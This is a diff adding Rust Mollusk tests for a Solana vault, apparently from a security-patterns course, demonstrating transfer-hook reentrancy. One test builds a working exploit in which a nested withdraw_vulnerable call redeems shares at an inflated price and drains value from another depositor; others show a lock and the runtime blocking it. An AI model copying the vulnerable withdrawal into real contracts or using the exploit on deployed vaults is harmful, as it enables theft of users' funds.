@@ -0,0 +1,353 @@
+// Mollusk tests for Pattern 32
+/// # Pattern 32: Transfer Hook Reentrancy — Mollusk Exploit Tests
+///
+/// The vault holds 1,000 SOL for 1,000 shares: Alice has 800, Mallory 100,
+/// and Mallory's second wallet 100. Mallory withdraws her 100 shares with
+/// a hook that withdraws the second wallet's 100 from inside it.
+///
+/// - Test 1: EXPLOIT — with the vault as the hook, the nested
+///   withdraw_vulnerable redeems at the price of 1,000 SOL for 900 shares:
+///   211.1 SOL out for 200 shares.
+/// - Test 2: SECURE — the same nesting through withdraw_secure fails: the
+///   vault is locked while the hook runs.
+/// - Test 3: SANITY — the two withdrawals made one after the other through
+///   withdraw_secure pay 100 SOL each, and Alice's 800 shares stay backed
+///   by 800 SOL.
+/// - Test 4: RUNTIME — with the attacker's program as the hook, the nested
+///   call never reaches the vault: vault → hook → vault fails with
+///   ReentrancyNotAllowed.
+///
+/// Both programs must be built into SBF_OUT_DIR (`reentrant_hook.so` comes
+/// from `patterns/32-transfer-hook-reentrancy/attacker`).
+use mollusk_svm::{result::Check, Mollusk};
+use solana_sdk::{
+    instruction::{AccountMeta, Instruction, InstructionError},
+    program_error::ProgramError,
+    pubkey::Pubkey,
+    rent::Rent,
+};
+use test_harness::{
+    account_discriminator, executable_account, ix_discriminator, owned_account, system_account,
+    Ledger,
+};
+
+const PROGRAM_ID: Pubkey = solana_sdk::pubkey!("3GhnacKUanejLc7MrKN2BUBoK8cM2oCuvt1w8QUQXxov");
+const HOOK_PROGRAM_ID: Pubkey = solana_sdk::pubkey!("Mye11NskeZtTa5ZWxTRom9RyX5VqyQc9RpinUGV3fMA");
+
+const SOL: u64 = 1_000_000_000;
+const RENT: u64 = 2_000_000;
+const WALLET: u64 = SOL;
+
+/// Shares, one per lamport deposited.
+const ALICE: u64 = 800 * SOL;
+const MALLORY: u64 = 100 * SOL;
+const TOTAL: u64 = ALICE + 2 * MALLORY;
+
+/// 100 shares redeemed against 1,000 SOL for 900 shares.
+const INFLATED: u64 = 111_111_111_111;
+
+const VAULT_LEN: usize = 8 + 8 + 1 + 1;
+
+// Error codes
+const VAULT_LOCKED: u32 = 6001;
+
+// ---------------------------------------------------------------------------
+// Helpers
+// ---------------------------------------------------------------------------
+
+/// Serialize a Vault account: [8 disc][8 total_shares][1 locked][1 bump]
+fn serialize_vault(total_shares: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(VAULT_LEN);
+    data.extend_from_slice(&account_discriminator("Vault"));
+    data.extend_from_slice(&total_shares.to_le_bytes());
+    data.push(0); // locked: false
+    data.push(bump);
+    data
+}
+
+/// Serialize a Position account: [8 disc][32 owner][8 shares][1 bump]
+fn serialize_position(owner: &Pubkey, shares: u64, bump: u8) -> Vec<u8> {
+    let mut data = Vec::with_capacity(49);
+    data.extend_from_slice(&account_discriminator("Position"));
+    data.extend_from_slice(owner.as_ref());
+    data.extend_from_slice(&shares.to_le_bytes());
+    data.push(bump);
+    data
+}
+
+/// The vault's lamports when it holds `assets` above rent.
+fn vault_lamports(assets: u64) -> u64 {
+    Rent::default().minimum_balance(VAULT_LEN) + assets
+}
+
+fn new_mollusk() -> Mollusk {
+    let mut mollusk = Mollusk::new(&PROGRAM_ID, "hook_reentrancy");
+    mollusk.add_program(
+        &HOOK_PROGRAM_ID,
+        "reentrant_hook",
+        &solana_sdk::bpf_loader_upgradeable::id(),
+    );
+    mollusk
+}
+
+fn pda(seeds: &[&[u8]]) -> (Pubkey, u8) {
+    Pubkey::find_program_address(seeds, &PROGRAM_ID)
+}
+
+/// A wallet and its position PDA.
+struct User {
+    key: Pubkey,
+    position: Pubkey,
+    bump: u8,
+}
+
+struct Setup {
+    vault: Pubkey,
+    vault_bump: u8,
+    alice: User,
+    mallory: User,
+    /// Mallory's second wallet.
+    accomplice: User,
+    ledger: Ledger,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let (vault, vault_bump) = pda(&[b"vault"]);
+
+        let mut ledger = vec![
+            (
+                vault,
+                owned_account(
+                    &serialize_vault(TOTAL, vault_bump),
+                    vault_lamports(TOTAL),
+                    &PROGRAM_ID,
+                ),
+            ),
+            // Hooks CPI from the vault into itself
+            (
+                PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+            (
+                HOOK_PROGRAM_ID,
+                executable_account(&solana_sdk::bpf_loader_upgradeable::id()),
+            ),
+        ];
+        let mut user = |shares: u64| {
+            let key = Pubkey::new_unique();
+            let (position, bump) = pda(&[b"position", key.as_ref()]);
+            ledger.extend([
+                (
+                    position,
+                    owned_account(&serialize_position(&key, shares, bump), RENT, &PROGRAM_ID),
+                ),
+                (key, system_account(WALLET)),
+            ]);
+            User {
+                key,
+                position,
+                bump,
+            }
+        };
+        let alice = user(ALICE);
+        let mallory = user(MALLORY);
+        let accomplice = user(MALLORY);
+
+        Self {
+            vault,
+            vault_bump,
+            alice,
+            mallory,
+            accomplice,
+            ledger: Ledger::new(ledger),
+        }
+    }
+
+    /// `user`: withdraw_*(shares), with `hook` as the withdrawal's hook.
+    fn withdraw(
+        &self,
+        name: &str,
+        user: &User,
+        shares: u64,
+        hook: Option<&Instruction>,
+    ) -> Instruction {
+        let mut data = ix_discriminator(name).to_vec();
+        data.extend_from_slice(&shares.to_le_bytes());
+        let hook_data = hook.map_or(&[][..], |ix| &ix.data);
+        data.extend_from_slice(&(hook_data.len() as u32).to_le_bytes());
+        data.extend_from_slice(hook_data);
+
+        let mut accounts = vec![
+            AccountMeta::new(self.vault, false),
+            AccountMeta::new(user.position, false),
+            AccountMeta::new(user.key, true),
+            AccountMeta::new_readonly(hook.map_or(PROGRAM_ID, |ix| ix.program_id), false),
+        ];
+        if let Some(ix) = hook {
+            accounts.extend_from_slice(&ix.accounts);
+        }
+        Instruction::new_with_bytes(PROGRAM_ID, &data, accounts)
+    }
+
+    /// Mallory withdraws her shares through `name`, and the hook, the vault
+    /// itself, withdraws the accomplice's through `name` too.
+    fn nested_withdraw(&self, name: &str) -> Instruction {
+        let inner = self.withdraw(name, &self.accomplice, MALLORY, None);
+        self.withdraw(name, &self.mallory, MALLORY, Some(&inner))
+    }
+
+    /// The attacker's hook, asked to withdraw the accomplice's shares.
+    fn attacker_hook(&self) -> Instruction {
+        let mut data = ix_discriminator("on_withdraw").to_vec();
+        data.extend_from_slice(&MALLORY.to_le_bytes());
+        Instruction::new_with_bytes(
+            HOOK_PROGRAM_ID,
+            &data,
+            vec![
+                AccountMeta::new_readonly(PROGRAM_ID, false),
+                AccountMeta::new(self.vault, false),
+                AccountMeta::new(self.accomplice.position, false),
+                AccountMeta::new(self.accomplice.key, true),
+            ],
+        )
+    }
+}
+
+// ---------------------------------------------------------------------------
+// Tests
+// ---------------------------------------------------------------------------
+
+#[test]
+fn exploit_hook_redeems_at_inflated_price_vulnerable() {
+    // -----------------------------------------------------------------------
+    // EXPLOIT:
+    //   Mallory: withdraw_vulnerable(100 shares),
+    //            hook: withdraw_vulnerable(100 shares) for the accomplice
+    //
+    // Expected: SUCCEEDS. The hook runs after the outer burn and before its
+    //           payout, so the accomplice's 100 shares redeem for 111.1 SOL.
+    //           211.1 SOL leave for 200 shares, and Alice's 800 shares are
+    //           backed by 788.9 SOL.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, mallory, accomplice) = (s.vault, s.mallory.key, s.accomplice.key);
+
+    let left = TOTAL - MALLORY - INFLATED;
+    let ix = s.nested_withdraw("withdraw_vulnerable");
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&mallory).lamports(WALLET + MALLORY).build(),
+            Check::account(&accomplice)
+                .lamports(WALLET + INFLATED)
+                .build(),
+            Check::account(&vault)
+                .lamports(vault_lamports(left))
+                .data(&serialize_vault(ALICE, s.vault_bump))
+                .build(),
+        ],
+    );
+    assert!(left < ALICE, "Alice's shares are no longer fully backed");
+}
+
+#[test]
+fn secure_hook_cannot_reenter_locked_vault() {
+    // -----------------------------------------------------------------------
+    // SECURE:
+    //   Mallory: withdraw_secure(100 shares),
+    //            hook: withdraw_secure(100 shares) for the accomplice
+    //
+    // Expected: FAILS with VaultLocked (6001). The outer call wrote the
+    //           lock before invoking the hook, and the inner call reads it.
+    //           Nothing moves.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    let ix = s.nested_withdraw("withdraw_secure");
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::err(ProgramError::Custom(VAULT_LOCKED))],
+    );
+}
+
+#[test]
+fn sanity_sequential_withdrawals_secure() {
+    // -----------------------------------------------------------------------
+    // SANITY:
+    //   1. Mallory: withdraw_secure(100 shares), no hook  → 100 SOL
+    //   2. Accomplice: withdraw_secure(100 shares), no hook → 100 SOL
+    //
+    // Expected: both SUCCEED at the same price. The vault is left with
+    //           800 SOL for Alice's 800 shares, unlocked, and Alice's
+    //           position is untouched.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+    let (vault, mallory, accomplice) = (s.vault, s.mallory.key, s.accomplice.key);
+    let (position, bump) = (s.mallory.position, s.mallory.bump);
+    let (alice, alice_position, alice_bump) = (s.alice.key, s.alice.position, s.alice.bump);
+
+    let ix = s.withdraw("withdraw_secure", &s.mallory, MALLORY, None);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&mallory).lamports(WALLET + MALLORY).build(),
+            Check::account(&position)
+                .data(&serialize_position(&mallory, 0, bump))
+                .build(),
+        ],
+    );
+
+    let ix = s.withdraw("withdraw_secure", &s.accomplice, MALLORY, None);
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[
+            Check::success(),
+            Check::account(&accomplice)
+                .lamports(WALLET + MALLORY)
+                .build(),
+            Check::account(&vault)
+                .lamports(vault_lamports(ALICE))
+                .data(&serialize_vault(ALICE, s.vault_bump))
+                .build(),
+            Check::account(&alice_position)
+                .data(&serialize_position(&alice, ALICE, alice_bump))
+                .build(),
+        ],
+    );
+}
+
+#[test]
+fn runtime_blocks_foreign_hook_reentry() {
+    // -----------------------------------------------------------------------
+    // RUNTIME:
+    //   Mallory: withdraw_vulnerable(100 shares),
+    //            hook: reentrant_hook::on_withdraw, which calls
+    //            withdraw_vulnerable(100 shares) for the accomplice
+    //
+    // Expected: FAILS with ReentrancyNotAllowed. The vault is already on
+    //           the CPI stack, and only a program calling itself directly
+    //           may enter it again.
+    // -----------------------------------------------------------------------
+    let mollusk = new_mollusk();
+    let mut s = Setup::new();
+
+    let hook = s.attacker_hook();
+    let ix = s.withdraw("withdraw_vulnerable", &s.mallory, MALLORY, Some(&hook));
+    s.ledger.step(
+        &mollusk,
+        &ix,
+        &[Check::instruction_err(
+            InstructionError::ReentrancyNotAllowed,
+        )],
+    );
+}